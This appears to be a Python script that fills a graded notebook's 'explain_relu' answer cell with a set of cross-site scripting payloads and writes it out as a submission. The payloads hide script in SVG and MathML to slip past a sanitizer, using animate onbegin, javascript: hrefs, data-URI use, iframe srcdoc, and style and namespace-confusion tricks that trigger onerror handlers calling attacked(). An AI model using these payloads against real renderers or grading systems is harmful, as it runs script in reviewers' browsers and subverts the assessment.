"""Hides scripts in SVG and MathML, which browsers parse by other rules than the filter may do."""

import json

ANSWER = r"""\
<svg><script href="data:text/javascript,attacked()"></script><animate onbegin=attacked() attributeName=x dur=1s>
<a><animate attributeName=href values=javascript:attacked() /><text x=20 y=20>click</text></a>
<use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>attacked()</script></svg>#x">
<foreignObject><iframe srcdoc="<script>parent.attacked()</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked()&gt;">
<math href="javascript:attacked()">click</math>
<svg></p><style><a id="</style><img src=1 onerror=attacked()>">
"""


def hand_in(folder, blank, solved):
    folder.mkdir(parents=True, exist_ok=True)
    for cell in blank["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "explain_relu":
            cell["source"] = ANSWER
    (folder / "residual_block.ipynb").write_text(json.dumps(blank))
